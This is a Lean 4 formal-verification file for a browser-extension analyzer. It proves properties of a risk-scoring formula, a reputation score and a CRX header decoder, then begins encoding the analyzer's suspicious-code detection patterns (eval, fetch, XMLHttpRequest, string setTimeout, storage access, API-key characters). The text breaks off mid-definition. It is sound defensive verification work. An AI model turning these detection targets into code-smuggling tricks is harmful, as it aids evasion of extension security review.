import Mathlib

/-!
Verification of the browser-extension inspection and risk-scoring engine
(`src/lib/analyzer.ts`, newer revision: the one defining
`calculateDetailedRisk(permissions, vulnerabilities, manifestVersion,
obfuscationScore)` and `calculateReputationScore` with the six-term formula).

Shallow embedding conventions:
* JavaScript numbers are modelled as exact rationals (`ℚ`) wherever the source
  only adds, multiplies and compares them, and as reals (`ℝ`) where `Math.log10`
  / `Math.log2` enter; `Math.round` is `jsRound x = ⌊x + 1/2⌋`.
* Strings are Lean `String`s; the regular-expression scans of the source are
  translated pattern by pattern into explicit scanning functions over
  `List Char` with JavaScript `String.prototype.match messages` semantics
  (leftmost, greedy, non-overlapping for the `/g` scans).
* The ZIP/archive layer, `JSON.parse`, base64 encoding and `Date` parsing are
  the external collaborators the specification declares out of scope; they are
  passed in as explicit parameters (an entry list, a manifest-parse oracle, a
  base64 oracle and a months-since-update oracle).
* Fallible code returns `Except` / `Option`; a JavaScript `throw` is an
  `Except.error` value, a `DataView` out-of-range read is `Option.none`.
-/

namespace Analyzer

/-- The ordered risk tier used for permissions, vulnerabilities and the overall
level (`'Low' | 'Medium' | 'High' | 'Critical'` in the source). -/
inductive Risk where
  | Low
  | Medium
  | High
  | Critical
deriving DecidableEq, Repr

/-- `PermissionInfo` from the source: one classified permission. -/
structure PermissionInfo where
  permission : String
  risk : Risk
  description : String
deriving DecidableEq, Repr

/-- `Vulnerability` from the source; `score` is the optional CVSS number. -/
structure Vulnerability where
  id : String
  severity : Risk
  description : String
  score : Option ℚ
deriving DecidableEq, Repr

/-- JavaScript `Math.round` on a real: round half away from zero is
`⌊x + 1/2⌋` for every real (for negative halves JS rounds toward +∞,
which `⌊x + 1/2⌋` also does). -/
noncomputable def jsRound (x : ℝ) : ℤ := ⌊x + 1 / 2⌋

/-- The risk-level thresholds applied to the total score
(`>= 75` Critical, `>= 50` High, `>= 25` Medium, else Low). -/
def riskLevelOf (t : ℤ) : Risk :=
  if 75 ≤ t then .Critical
  else if 50 ≤ t then .High
  else if 25 ≤ t then .Medium
  else .Low

/-- Per-finding weight of the permission term
(`Critical=10, High=5, Medium=2, Low=0.5`). -/
def riskWeight : Risk → ℚ
  | .Critical => 10
  | .High => 5
  | .Medium => 2
  | .Low => 1 / 2

/-- Running sum of the permission weights, as the source's `forEach` loop. -/
def permissionScoreRaw (ps : List PermissionInfo) : ℚ :=
  ps.foldl (fun a p => a + riskWeight p.risk) 0

/-- Permission term: the summed weights clamped to 40 (`Math.min(40, ...)`). -/
def permissionScore (ps : List PermissionInfo) : ℚ :=
  min 40 (permissionScoreRaw ps)

/-- CVE-count term: `Math.min(20, vulnerabilities.length * 4)`. -/
def cveCountScore (vs : List Vulnerability) : ℚ :=
  min 20 (vs.length * 4)

/-- The source's `highestCVSS` loop: starts at 0 and replaces the accumulator
whenever `v.score` is truthy (present and nonzero) and larger. -/
def highestCVSS (vs : List Vulnerability) : ℚ :=
  vs.foldl
    (fun a v =>
      match v.score with
      | some s => if s ≠ 0 ∧ a < s then s else a
      | none => a)
    0

/-- CVE-severity term: `(Math.log10(highestCVSS + 1) / Math.log10(11)) * 25`.
Unclamped in the source. -/
noncomputable def cvssTerm (vs : List Vulnerability) : ℝ :=
  Real.logb 10 ((highestCVSS vs : ℝ) + 1) / Real.logb 10 11 * 25

/-- Manifest-version term: `manifestVersion === 2 ? 5 : 0`. -/
def manifestTerm (mv : ℤ) : ℚ :=
  if mv = 2 then 5 else 0

/-- Output of `calculateDetailedRisk` (the explanatory equation string of the
source is not modelled; no claim concerns it). -/
structure RiskOutput where
  score : ℤ
  level : Risk

/-- `calculateDetailedRisk` from the source: the total is
`Math.min(100, Math.round(perm + cveCount + cvss + manifest + obfuscation))`
and the level is the threshold function of the total. -/
noncomputable def calculateDetailedRisk (ps : List PermissionInfo)
    (vs : List Vulnerability) (mv : ℤ) (obf : ℚ) : RiskOutput :=
  let total : ℤ :=
    min 100 (jsRound ((permissionScore ps : ℝ) + (cveCountScore vs : ℝ) +
      cvssTerm vs + (manifestTerm mv : ℝ) + (obf : ℝ)))
  ⟨total, riskLevelOf total⟩

/-! Spec-side definitions for claim C1, written from the specification's words
(§4.7): the total is `round(min(100, term1+term2+term3+term4+term5))`, the
permission term sums the four weights clamped to 40, the CVE count term is
`min(20, 4 × distinct-CVE-count)`, the CVSS term is
`25 × log10(h+1)/log10(11)` for `h` the maximum CVSS score (0 if none), and
the manifest term is 5 iff the manifest version is 2. -/

/-- Spec-side `h`: the maximum CVSS score among the vulnerabilities, 0 when
none carries a score. -/
def specMaxCvss (vs : List Vulnerability) : ℚ :=
  (vs.filterMap (·.score)).foldl max 0

/-- Spec-side total score of §4.7: `round(min(100, sum of the five terms))`. -/
noncomputable def specRiskTotal (ps : List PermissionInfo)
    (vs : List Vulnerability) (mv : ℤ) (obf : ℚ) : ℤ :=
  jsRound (min 100
    ((min 40 (permissionScoreRaw ps) : ℚ) + (min 20 ((vs.length : ℚ) * 4) : ℚ) +
      25 * (Real.logb 10 ((specMaxCvss vs : ℝ) + 1) / Real.logb 10 11) +
      ((if mv = 2 then (5 : ℚ) else 0) : ℚ) + (obf : ℝ)))

/-- `jsRound` is monotone. -/
theorem jsRound_mono {x y : ℝ} (h : x ≤ y) : jsRound x ≤ jsRound y :=
  Int.floor_le_floor (by linarith)

/-- `jsRound` of the constant 100. -/
theorem jsRound_hundred : jsRound 100 = 100 := by
  unfold jsRound
  rw [Int.floor_eq_iff]
  norm_num

/-- `Math.min(100, Math.round x)` and `round(min(100, x))` agree. -/
theorem min_jsRound_comm (x : ℝ) : min 100 (jsRound x) = jsRound (min 100 x) := by
  rcases le_total x 100 with h | h
  · rw [min_eq_right h, min_eq_right]
    calc jsRound x ≤ jsRound 100 := jsRound_mono h
    _ = 100 := jsRound_hundred
  · rw [min_eq_left h, min_eq_left, jsRound_hundred]
    rw [← jsRound_hundred]
    exact jsRound_mono h

/-- The source's `highestCVSS` fold never drops below its accumulator start. -/
theorem highestCVSS_nonneg (vs : List Vulnerability) : 0 ≤ highestCVSS vs := by
  unfold highestCVSS
  suffices h : ∀ (a : ℚ), 0 ≤ a → 0 ≤
      vs.foldl (fun a v => match v.score with
        | some s => if s ≠ 0 ∧ a < s then s else a
        | none => a) a by
    exact h 0 le_rfl
  induction vs with
  | nil => intro a ha; simpa using ha
  | cons v rest ih =>
    intro a ha
    simp only [List.foldl_cons]
    apply ih
    match hs : v.score with
    | none => simpa [hs] using ha
    | some s =>
      simp only [hs]
      split
      · next hcond => linarith [hcond.2]
      · exact ha

/-- The source's truthiness-guarded max loop equals the plain
max-with-default-0 of the spec. -/
theorem highestCVSS_eq_specMaxCvss (vs : List Vulnerability) :
    highestCVSS vs = specMaxCvss vs := by
  unfold highestCVSS specMaxCvss
  suffices h : ∀ (a : ℚ), 0 ≤ a →
      vs.foldl (fun a v => match v.score with
        | some s => if s ≠ 0 ∧ a < s then s else a
        | none => a) a =
      (vs.filterMap (·.score)).foldl max a by
    exact h 0 le_rfl
  induction vs with
  | nil => intro a _; rfl
  | cons v rest ih =>
    intro a ha
    match hs : v.score with
    | none => simp only [List.foldl_cons, List.filterMap_cons, hs]; exact ih a ha
    | some s =>
      simp only [List.foldl_cons, List.filterMap_cons, hs]
      by_cases hlt : a < s
      · have hne : s ≠ 0 := by intro h0; rw [h0] at hlt; linarith
        rw [if_pos ⟨hne, hlt⟩, max_eq_right (le_of_lt hlt)]
        exact ih s (le_of_lt (lt_of_le_of_lt ha hlt))
      · have : ¬(s ≠ 0 ∧ a < s) := fun hc => hlt hc.2
        rw [if_neg this, max_eq_left (le_of_not_lt hlt)]
        exact ih a ha

/-- C1. `calculateDetailedRisk` returns a total equal to
`round(min(100, permissionTerm + cveCountTerm + cvssTerm + manifestTerm +
obfuscationScore))` with the terms exactly as §4.7 states them (the
permission term clamps at 40, so ten Critical findings give exactly 40), and
the risk level is Critical iff the total is ≥ 75, High iff it is in [50, 75),
Medium iff it is in [25, 50), and Low otherwise. -/
theorem c1_risk_score_formula :
    (∀ (ps : List PermissionInfo) (vs : List Vulnerability) (mv : ℤ) (obf : ℚ),
      (calculateDetailedRisk ps vs mv obf).score = specRiskTotal ps vs mv obf ∧
      ((calculateDetailedRisk ps vs mv obf).level = .Critical ↔
        75 ≤ (calculateDetailedRisk ps vs mv obf).score) ∧
      ((calculateDetailedRisk ps vs mv obf).level = .High ↔
        50 ≤ (calculateDetailedRisk ps vs mv obf).score ∧
          (calculateDetailedRisk ps vs mv obf).score < 75) ∧
      ((calculateDetailedRisk ps vs mv obf).level = .Medium ↔
        25 ≤ (calculateDetailedRisk ps vs mv obf).score ∧
          (calculateDetailedRisk ps vs mv obf).score < 50) ∧
      ((calculateDetailedRisk ps vs mv obf).level = .Low ↔
        (calculateDetailedRisk ps vs mv obf).score < 25)) ∧
    permissionScore (List.replicate 10 ⟨"debugger", .Critical, ""⟩) = 40 := by
  have hlv : ∀ t : ℤ,
      (riskLevelOf t = .Critical ↔ 75 ≤ t) ∧
      (riskLevelOf t = .High ↔ 50 ≤ t ∧ t < 75) ∧
      (riskLevelOf t = .Medium ↔ 25 ≤ t ∧ t < 50) ∧
      (riskLevelOf t = .Low ↔ t < 25) := by
    intro t
    unfold riskLevelOf
    split_ifs <;> refine ⟨?_, ?_, ?_, ?_⟩ <;> simp <;> omega
  constructor
  · intro ps vs mv obf
    have hscore : (calculateDetailedRisk ps vs mv obf).score =
        specRiskTotal ps vs mv obf := by
      show min 100 (jsRound _) = jsRound _
      rw [min_jsRound_comm]
      congr 1
      congr 1
      unfold permissionScore cveCountScore cvssTerm manifestTerm
      rw [highestCVSS_eq_specMaxCvss]
      push_cast
      ring
    have hl : (calculateDetailedRisk ps vs mv obf).level =
        riskLevelOf ((calculateDetailedRisk ps vs mv obf).score) := rfl
    rw [hl]
    exact ⟨hscore, (hlv _).1, (hlv _).2.1, (hlv _).2.2.1, (hlv _).2.2.2⟩
  · simp only [permissionScore, permissionScoreRaw, List.replicate, riskWeight,
      List.foldl_cons, List.foldl_nil]
    norm_num

/-- The base-10 logarithm of 11 is positive. -/
theorem logb_eleven_pos : 0 < Real.logb 10 11 :=
  Real.logb_pos (by norm_num) (by norm_num)

/-- The `highestCVSS` fold stays at or below a bound that holds for the
accumulator and for every present score. -/
theorem highestCVSS_le_of_forall {vs : List Vulnerability}
    (h : ∀ v ∈ vs, v.score.getD 0 ≤ 10) : highestCVSS vs ≤ 10 := by
  unfold highestCVSS
  suffices hgen : ∀ (l : List Vulnerability), (∀ v ∈ l, v.score.getD 0 ≤ 10) →
      ∀ (a : ℚ), a ≤ 10 →
      l.foldl (fun a v => match v.score with
        | some s => if s ≠ 0 ∧ a < s then s else a
        | none => a) a ≤ 10 by
    exact hgen vs h 0 (by norm_num)
  intro l
  induction l with
  | nil => intro _ a ha; simpa using ha
  | cons v rest ih =>
    intro hall a ha
    simp only [List.foldl_cons]
    apply ih (fun w hw => hall w (List.mem_cons_of_mem v hw))
    match hs : v.score with
    | none => exact ha
    | some s =>
      have hv : v.score.getD 0 ≤ 10 := hall v (List.mem_cons_self v rest)
      rw [hs] at hv
      simp only
      split
      · simpa using hv
      · exact ha

/-- C4 counterexample: a vulnerability whose CVSS score is 100 drives the
CVE-severity term above 25, so the term is not clamped into [0, 25] for every
input. -/
theorem c4_counterexample :
    25 < cvssTerm [⟨"CVE-TEST", .Medium, "out-of-range CVSS", some 100⟩] := by
  have hmax : highestCVSS [⟨"CVE-TEST", .Medium, "out-of-range CVSS", some 100⟩]
      = 100 := by
    unfold highestCVSS
    norm_num
  unfold cvssTerm
  rw [hmax]
  have h1 : Real.logb 10 11 < Real.logb 10 ((100 : ℚ) + 1 : ℝ) := by
    push_cast
    exact Real.logb_lt_logb (by norm_num) (by norm_num) (by norm_num)
  have h2 : (1 : ℝ) < Real.logb 10 ((100 : ℚ) + 1 : ℝ) / Real.logb 10 11 :=
    (one_lt_div logb_eleven_pos).mpr h1
  push_cast at h2 ⊢
  nlinarith

/-- C4 (amended). The CVE-severity term `25 × log10(h+1)/log10(11)` computed
by `calculateDetailedRisk` is always nonnegative, and it stays at or below 25
exactly when every CVSS score in the list is at most 10 — as is the case for
the static vulnerability table. A score above 10 (see the counterexample)
exceeds 25: the source applies no clamp to this term. -/
theorem c4_cvss_term_range (vs : List Vulnerability) :
    0 ≤ cvssTerm vs ∧
    ((∀ v ∈ vs, v.score.getD 0 ≤ 10) → cvssTerm vs ≤ 25) := by
  have hnn : (0 : ℝ) ≤ (highestCVSS vs : ℝ) := by
    exact_mod_cast highestCVSS_nonneg vs
  constructor
  · unfold cvssTerm
    apply mul_nonneg _ (by norm_num)
    apply div_nonneg _ (le_of_lt logb_eleven_pos)
    exact Real.logb_nonneg (by norm_num) (by linarith)
  · intro hall
    have hle : (highestCVSS vs : ℝ) ≤ 10 := by
      exact_mod_cast highestCVSS_le_of_forall hall
    unfold cvssTerm
    have hlog : Real.logb 10 ((highestCVSS vs : ℝ) + 1) ≤ Real.logb 10 11 :=
      Real.logb_le_logb_of_le (by norm_num) (by linarith) (by linarith)
    have hdiv : Real.logb 10 ((highestCVSS vs : ℝ) + 1) / Real.logb 10 11 ≤ 1 :=
      (div_le_one logb_eleven_pos).mpr hlog
    nlinarith

/-- Witness for C4 at the static table's jQuery entry (CVSS 6.1 ≤ 10). -/
theorem c4_cvss_term_range_witness :
    0 ≤ cvssTerm [⟨"CVE-2020-11022", .Medium, "", some (mkRat 61 10)⟩] ∧
    cvssTerm [⟨"CVE-2020-11022", .Medium, "", some (mkRat 61 10)⟩] ≤ 25 :=
  ⟨(c4_cvss_term_range _).1, (c4_cvss_term_range _).2 (by decide)⟩

/-- `ReputationData` from the source (caller-supplied store metadata). The
optional badge booleans of the TypeScript interface are modelled as `Bool`
(JS `undefined` behaves as `false` in both `if` tests). -/
structure ReputationData where
  publisher : String
  rating : ℚ
  ratingCount : ℤ
  userCount : String
  lastUpdated : String
  isFeatured : Bool
  isVerifiedPublisher : Bool

/-- `parseInt(userCount.replace(/[^0-9]/g, ''))`: strip every non-digit and
read the remaining digits as a number; an all-stripped string gives `NaN`,
which `|| 0` turns into 0 (the empty fold). -/
def parseUsers (s : String) : ℕ :=
  (s.data.filter Char.isDigit).foldl (fun n c => n * 10 + (c.toNat - 48)) 0

/-- `calculateReputationScore` from the source. The `Date` machinery is the
external collaborator: `months` is `(now − parsed lastUpdated) / 30 days`
when `new Date(lastUpdated)` parses, `none` when it yields `NaN` (in which
case the source falls back to +5 for a non-empty `lastUpdated` string). -/
noncomputable def calculateReputationScore (rep : ReputationData)
    (months : Option ℚ) : ℤ :=
  let s1 : ℚ := if rep.isVerifiedPublisher then 20 else 0
  let s2 : ℚ := rep.rating / 5 * 20
  let s3 : ℝ := if 0 < rep.ratingCount
    then min 15 (max 0 (Real.logb 10 (rep.ratingCount : ℝ) / 5 * 15)) else 0
  let s4 : ℝ := if 0 < parseUsers rep.userCount
    then min 20 (max 0 (Real.logb 10 (parseUsers rep.userCount : ℝ) / 7 * 20))
    else 0
  let s5 : ℚ := match months with
    | some m => if m < 6 then 15 else if m < 12 then 10 else if m < 24 then 5 else 0
    | none => if rep.lastUpdated.isEmpty then 0 else 5
  let s6 : ℚ := if rep.isFeatured then 10 else 0
  min 100 (jsRound ((s1 : ℝ) + (s2 : ℝ) + s3 + s4 + (s5 : ℝ) + (s6 : ℝ)))

/-- Spec-side reputation score, written from §4.8's words: the six terms
(+20 verified, `(rating/5)×20`, `min(15, max(0, (log10(count)/5)×15))` when
`count>0`, `min(20, max(0, (log10(users)/7)×20))` when `users>0`, recency
15/10/5/0 by months with a flat +5 for an unparseable non-empty date, +10
featured), combined as `round(min(100, sum))`. -/
noncomputable def specReputationScore (rep : ReputationData)
    (months : Option ℚ) : ℤ :=
  jsRound (min 100
    ((((if rep.isVerifiedPublisher then 20 else 0 : ℚ)) : ℝ) +
      ((rep.rating / 5 * 20 : ℚ) : ℝ) +
      (if 0 < rep.ratingCount
        then min 15 (max 0 (Real.logb 10 (rep.ratingCount : ℝ) / 5 * 15)) else 0) +
      (if 0 < parseUsers rep.userCount
        then min 20 (max 0 (Real.logb 10 (parseUsers rep.userCount : ℝ) / 7 * 20))
        else 0) +
      (((match months with
        | some m => if m < 6 then 15
            else if m < 12 then 10 else if m < 24 then 5 else 0
        | none => if rep.lastUpdated.isEmpty then 0 else 5 : ℚ)) : ℝ) +
      (((if rep.isFeatured then 10 else 0 : ℚ)) : ℝ)))

/-- The ideal reputation record of end-to-end scenario C. -/
def idealReputation : ReputationData :=
  ⟨"Trusted Dev", 5, 100000, "10,000,000+", "2026-01-01", true, true⟩

/-- Base-10 log of 10^k is k. -/
theorem logb_ten_pow (k : ℕ) : Real.logb 10 ((10 : ℝ) ^ k) = k := by
  rw [Real.logb_pow, Real.logb_self_eq_one (by norm_num)]
  ring

/-- C5. `calculateReputationScore` equals the §4.8 spec formula on every
input, and on scenario C's record (rating 5, 100000 ratings, 10,000,000+
users, updated under 6 months ago, featured, verified publisher) it returns
exactly 100. -/
theorem c5_reputation_score :
    (∀ (rep : ReputationData) (months : Option ℚ),
      calculateReputationScore rep months = specReputationScore rep months) ∧
    (∀ m : ℚ, m < 6 →
      calculateReputationScore idealReputation (some m) = 100) := by
  constructor
  · intro rep months
    unfold calculateReputationScore specReputationScore
    rw [min_jsRound_comm]
  · intro m hm
    unfold calculateReputationScore idealReputation
    have hu : parseUsers "10,000,000+" = 10000000 := by decide
    have l5 : Real.logb 10 (((100000 : ℤ) : ℝ)) = 5 := by
      rw [show ((100000 : ℤ) : ℝ) = (10 : ℝ) ^ (5 : ℕ) by norm_num]
      exact_mod_cast logb_ten_pow 5
    have l7 : Real.logb 10 ((10000000 : ℕ) : ℝ) = 7 := by
      rw [show ((10000000 : ℕ) : ℝ) = (10 : ℝ) ^ (7 : ℕ) by norm_num]
      exact_mod_cast logb_ten_pow 7
    simp only [hu]
    rw [if_pos (by norm_num : (0 : ℤ) < 100000),
      if_pos (by norm_num : 0 < 10000000)]
    rw [l5, l7, if_pos hm]
    have h3 : min (15 : ℝ) (max 0 (5 / 5 * 15)) = 15 := by norm_num
    have h4 : min (20 : ℝ) (max 0 (7 / 7 * 20)) = 20 := by norm_num
    rw [h3, h4]
    simp only [if_true]
    norm_num
    rw [jsRound_hundred]

/-- Witness for C5's scenario-C clause at zero months since update. -/
theorem c5_reputation_score_witness :
    calculateReputationScore idealReputation (some 0) = 100 :=
  c5_reputation_score.2 0 (by decide)

/-! ## Container decoder (the CRX header stripping at the top of
`analyzeExtension`). Bytes are naturals below 256; a `DataView.getUint32`
whose 4 bytes run past the end of the buffer throws a `RangeError`, modelled
as `none`; the decoder as a whole returns `none` exactly when such a read
throws, aborting the analysis. -/

/-- Little-endian 32-bit read at `off`, `none` when `off + 4` exceeds the
buffer length (the `DataView` bounds check). -/
def getU32le (d : List ℕ) (off : ℕ) : Option ℕ :=
  if off + 4 ≤ d.length then
    some (d.getD off 0 + 256 * (d.getD (off + 1) 0 +
      256 * (d.getD (off + 2) 0 + 256 * d.getD (off + 3) 0)))
  else none

/-- The CRX container decoder: detect the `"Cr24"` magic (little-endian
`0x34327243`) when the buffer is longer than 4 bytes, read the version,
compute the strip offset (`16 + keyLen + sigLen` for version 2,
`12 + headerLen` for version 3, 0 otherwise), and apply it only when
`0 < offset < length`; every other buffer passes through unchanged. -/
def crxDecode (d : List ℕ) : Option (List ℕ) :=
  if 4 < d.length then
    if getU32le d 0 = some 0x34327243 then
      match getU32le d 4 with
      | none => none
      | some version =>
        let offsetOpt : Option ℕ :=
          if version = 2 then
            match getU32le d 8, getU32le d 12 with
            | some pk, some sig => some (16 + pk + sig)
            | _, _ => none
          else if version = 3 then
            (getU32le d 8).map (12 + ·)
          else some 0
        match offsetOpt with
        | none => none
        | some off => some (if 0 < off ∧ off < d.length then d.drop off else d)
    else some d
  else some d

/-- The four magic bytes `"Cr24"` (`0x43 0x72 0x32 0x34`). -/
def crxMagic : List ℕ := [0x43, 0x72, 0x32, 0x34]

/-- Under the byte bound, the 32-bit magic test is exactly a prefix test for
the four magic bytes (on a buffer of length ≥ 5). -/
theorem getU32le_magic_iff (d : List ℕ) (hb : ∀ b ∈ d, b < 256)
    (hl : 4 < d.length) :
    getU32le d 0 = some 0x34327243 ↔ d.take 4 = crxMagic := by
  match d, hl with
  | b0 :: b1 :: b2 :: b3 :: rest, _ =>
    have h0 : b0 < 256 := hb b0 (by simp)
    have h1 : b1 < 256 := hb b1 (by simp)
    have h2 : b2 < 256 := hb b2 (by simp)
    have h3 : b3 < 256 := hb b3 (by simp)
    have hread : getU32le (b0 :: b1 :: b2 :: b3 :: rest) 0 =
        some (b0 + 256 * (b1 + 256 * (b2 + 256 * b3))) := by
      unfold getU32le
      rw [if_pos (by simp only [List.length_cons]; omega)]
      rfl
    rw [hread]
    show _ ↔ [b0, b1, b2, b3] = crxMagic
    unfold crxMagic
    simp only [Option.some_inj, List.cons.injEq, and_true]
    omega

/-- C6. The container decoder: (a) any buffer not starting with the four
magic bytes passes through unchanged; (b) with the magic and version 3, the
offset is `12 + headerLength` and exactly that many bytes are stripped when
`0 < offset < length`, otherwise the buffer is unchanged; (c) with version 2
the offset is `16 + keyLen + sigLen` under the same guard; (d) with any other
version the buffer is unchanged. -/
theorem c6_container_decoder (d : List ℕ) (hb : ∀ b ∈ d, b < 256) :
    (d.take 4 ≠ crxMagic → crxDecode d = some d) ∧
    (d.take 4 = crxMagic → 4 < d.length →
      (∀ h, getU32le d 4 = some 3 → getU32le d 8 = some h →
        crxDecode d = some (if 0 < 12 + h ∧ 12 + h < d.length
          then d.drop (12 + h) else d)) ∧
      (∀ pk sig, getU32le d 4 = some 2 → getU32le d 8 = some pk →
        getU32le d 12 = some sig →
        crxDecode d = some (if 0 < 16 + pk + sig ∧ 16 + pk + sig < d.length
          then d.drop (16 + pk + sig) else d)) ∧
      (∀ v, getU32le d 4 = some v → v ≠ 2 → v ≠ 3 → crxDecode d = some d)) := by
  constructor
  · intro hmag
    unfold crxDecode
    split
    · next hlen =>
      rw [if_neg]
      intro hc
      exact hmag ((getU32le_magic_iff d hb hlen).mp hc)
    · rfl
  · intro hmag hlen
    have hm : getU32le d 0 = some 0x34327243 :=
      (getU32le_magic_iff d hb hlen).mpr hmag
    refine ⟨?_, ?_, ?_⟩
    · intro h hv hh
      unfold crxDecode
      rw [if_pos hlen, if_pos hm, hv]
      simp only [hh, Option.map_some]
      rfl
    · intro pk sig hv hpk hsig
      unfold crxDecode
      rw [if_pos hlen, if_pos hm, hv]
      simp only [hpk, hsig]
      rfl
    · intro v hv hv2 hv3
      unfold crxDecode
      rw [if_pos hlen, if_pos hm, hv]
      simp only [if_neg hv2, if_neg hv3]
      rfl

/-- Witness for C6: a 15-byte CRX3 buffer with header length 2 strips
exactly 12 + 2 = 14 bytes. -/
theorem c6_container_decoder_witness :
    crxDecode [0x43, 0x72, 0x32, 0x34, 3, 0, 0, 0, 2, 0, 0, 0, 9, 9, 7] =
      some [7] := by
  have h := (c6_container_decoder
    [0x43, 0x72, 0x32, 0x34, 3, 0, 0, 0, 2, 0, 0, 0, 9, 9, 7]
    (by decide)).2 (by decide) (by decide)
  have h3 := h.1 2 (by decide) (by decide)
  rw [h3]
  decide

/-- C9. Truncated CRX headers abort: (a) a buffer of 5 to 7 bytes starting
with the magic makes the version read throw (decoder returns `none`, the
out-of-range `RangeError` propagating out of `analyzeExtension`); (b) a
version-2 buffer shorter than 16 bytes likewise throws on the key/signature
length reads; (c) a buffer of exactly the 4 magic bytes fails the
`byteLength > 4` test and passes through unchanged. -/
theorem c9_truncated_crx (d : List ℕ) (hb : ∀ b ∈ d, b < 256) :
    (d.take 4 = crxMagic → 4 < d.length → d.length < 8 → crxDecode d = none) ∧
    (d.take 4 = crxMagic → getU32le d 4 = some 2 → d.length < 16 →
      crxDecode d = none) ∧
    (d = crxMagic → crxDecode d = some d) := by
  refine ⟨?_, ?_, ?_⟩
  · intro hmag hlen hshort
    unfold crxDecode
    rw [if_pos hlen, if_pos ((getU32le_magic_iff d hb hlen).mpr hmag)]
    have h4 : getU32le d 4 = none := by
      unfold getU32le
      rw [if_neg (by omega)]
    rw [h4]
  · intro hmag hv hshort
    have hlen : 4 < d.length := by
      unfold getU32le at hv
      by_contra hc
      rw [if_neg (by omega)] at hv
      exact Option.noConfusion hv
    unfold crxDecode
    rw [if_pos hlen, if_pos ((getU32le_magic_iff d hb hlen).mpr hmag), hv]
    have h12 : getU32le d 12 = none := by
      unfold getU32le
      rw [if_neg (by omega)]
    simp only [if_pos rfl, h12]
    match h8 : getU32le d 8 with
    | none => rfl
    | some pk => rfl
  · intro hd
    subst hd
    rfl

/-- Witness for C9: a 5-byte buffer starting with the magic aborts with an
out-of-range read. -/
theorem c9_truncated_crx_witness :
    crxDecode [0x43, 0x72, 0x32, 0x34, 0] = none :=
  (c9_truncated_crx [0x43, 0x72, 0x32, 0x34, 0] (by decide)).1
    (by decide) (by decide) (by decide)

/-! ## Source scanner: the regular-expression tables of `analyzeSourceCode`,
translated pattern by pattern. A matcher returns the length of the (unique,
greedy) match starting at the head of the list, or `none`. None of the
source's patterns needs general backtracking: every greedy class run is
followed either by the pattern end or by a character excluded from the class
(`(` and quotes are not whitespace, quotes are not in `[\w-]`), except the
`{4,6}` counter of the obfuscator-array pattern and the `[\w.-]*` of the
dependency patterns, which are searched explicitly. -/

/-- JavaScript `\w`: `[A-Za-z0-9_]`. -/
def isWordChar (c : Char) : Bool := c.isAlphanum || c = '_'

/-- The whitespace class `\s` (the code points the scanned sources use). -/
def jsSpace (c : Char) : Bool :=
  c = ' ' || c = '\t' || c = '\n' || c = '\r' || c.toNat = 11 || c.toNat = 12 ||
    c.toNat = 0xA0 || c.toNat = 0xFEFF

/-- `['"]`: a single or double quote. -/
def isQuote (c : Char) : Bool := c = '"' || c.toNat = 39

/-- `[\w-]`. -/
def isWordDash (c : Char) : Bool := isWordChar c || c = '-'

/-- `[\w.-]`. -/
def isWordDotDash (c : Char) : Bool := isWordChar c || c = '.' || c = '-'

/-- `[a-f0-9]`: lowercase hex. -/
def isHexLower (c : Char) : Bool := c.isDigit || ('a' ≤ c && c ≤ 'f')

/-- `[a-z0-9]`. -/
def isLowerAlnum (c : Char) : Bool := c.isDigit || c.isLower

/-- `[0-9A-Za-z-_]` of the Google-API-key pattern. -/
def isGoogleKeyChar (c : Char) : Bool := c.isAlphanum || c = '-' || c = '_'

/-- Identifier start `[a-zA-Z_$]`. -/
def isIdentStart (c : Char) : Bool := c.isAlpha || c = '_' || c = '$'

/-- Identifier continuation `[a-zA-Z0-9_$]`. -/
def isIdentChar (c : Char) : Bool := c.isAlphanum || c = '_' || c = '$'

/-- Length of the greedy run of characters satisfying `p` at the head. -/
def countWhile (p : Char → Bool) : List Char → ℕ
  | [] => 0
  | c :: r => if p c then countWhile p r + 1 else 0

/-- Case-sensitive literal prefix test. -/
def listStartsWith : List Char → List Char → Bool
  | [], _ => true
  | _ :: _, [] => false
  | p :: ps, c :: cs => p = c && listStartsWith ps cs

/-- ASCII case-insensitive literal prefix test (for the `/i` patterns). -/
def listStartsWithCI : List Char → List Char → Bool
  | [], _ => true
  | _ :: _, [] => false
  | p :: ps, c :: cs => p.toLower = c.toLower && listStartsWithCI ps cs

/-- Substring occurrence test. -/
def containsSub (pat : List Char) : List Char → Bool
  | [] => listStartsWith pat []
  | c :: r => listStartsWith pat (c :: r) || containsSub pat r

/-- Does `f` accept some suffix (i.e. does the pattern match at some
position)? -/
def anySuffix (f : List Char → Bool) : List Char → Bool
  | [] => f []
  | c :: r => f (c :: r) || anySuffix f r

/-- A positional matcher: length of the match at the head, or `none`. -/
abbrev Matcher := List Char → Option ℕ

/-- The empty continuation: pattern end. -/
def done : Matcher := fun _ => some 0

/-- Literal, then continuation. -/
def litThen (lit : List Char) (k : Matcher) : Matcher := fun s =>
  if listStartsWith lit s then (k (s.drop lit.length)).map (lit.length + ·)
  else none

/-- Greedy `\s*`, then continuation (exact because every continuation here
starts with a non-whitespace literal). -/
def wsStarThen (k : Matcher) : Matcher := fun s =>
  let n := countWhile jsSpace s
  (k (s.drop n)).map (n + ·)

/-- Single character from a class, then continuation. -/
def charThen (p : Char → Bool) (k : Matcher) : Matcher := fun s =>
  match s with
  | c :: r => if p c then (k r).map (1 + ·) else none
  | [] => none

/-- Exactly `n` characters from a class (the `{n}` counter), then
continuation. -/
def exactThen (p : Char → Bool) (n : ℕ) (k : Matcher) : Matcher := fun s =>
  if n ≤ countWhile p s then (k (s.drop n)).map (n + ·) else none

/-- Greedy `\w+` ending the pattern. -/
def wordPlus : Matcher := fun s =>
  let n := countWhile isWordChar s
  if n = 0 then none else some n

/-- `/chrome\.\w+/g`. -/
def chromeApiMatch : Matcher := litThen "chrome.".data wordPlus

/-- `/browser\.\w+/g`. -/
def browserApiMatch : Matcher := litThen "browser.".data wordPlus

/-- `/fetch\s*\(/g`. -/
def fetchCallMatch : Matcher :=
  litThen "fetch".data (wsStarThen (charThen (· = '(') done))

/-- `/XMLHttpRequest/g`. -/
def xhrMatch : Matcher := litThen "XMLHttpRequest".data done

/-- `/eval\s*\(/g`. -/
def evalCallMatch : Matcher :=
  litThen "eval".data (wsStarThen (charThen (· = '(') done))

/-- `/setTimeout\s*\(\s*['"]/g`. -/
def setTimeoutMatch : Matcher :=
  litThen "setTimeout".data
    (wsStarThen (charThen (· = '(') (wsStarThen (charThen isQuote done))))

/-- `/localStorage/g`. -/
def localStorageMatch : Matcher := litThen "localStorage".data done

/-- `/sessionStorage/g`. -/
def sessionStorageMatch : Matcher := litThen "sessionStorage".data done

/-- `/indexedDB/g`. -/
